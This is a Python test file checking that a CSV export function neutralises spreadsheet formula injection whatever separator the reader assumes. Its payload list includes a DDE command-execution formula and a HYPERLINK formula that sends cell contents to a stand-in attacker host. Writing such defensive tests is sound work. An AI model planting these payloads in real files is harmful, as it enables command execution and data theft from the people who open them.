"""Downloads that a spreadsheet opens without running anything."""

import csv
import io

import pytest

from manyvoices.core.sheets import harmless, sheet, unmarked

ATTACKS = [
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "x;=1+1",
    'x","=1+1',
    "x\n=1+1",
    "\ufeff=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
]
STARTS = tuple("=+-@＝＋－＠")


# promise H6
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_the_reader_takes_for_a_separator(attack: str, delimiter: str) -> None:
    text = "".join(sheet([attack, "b"], [[attack, attack], ["1", "2"]]))
    assert text.startswith("\ufeff")
    cells = [
        cell for row in csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter) for cell in row
    ]
    assert len(cells) >= 3
    for cell in cells:
        for part in cell.splitlines() or [""]:
            assert not part.lstrip(' \t\r\ufeff"').startswith(STARTS), (attack, part)


@pytest.mark.parametrize("cell", [*ATTACKS, "Bo Ek", "A-1", "brakes | snow", "O'Hara", ""])
def test_a_corrected_file_comes_back_as_it_was(cell: str) -> None:
    assert unmarked(harmless(cell)) == cell
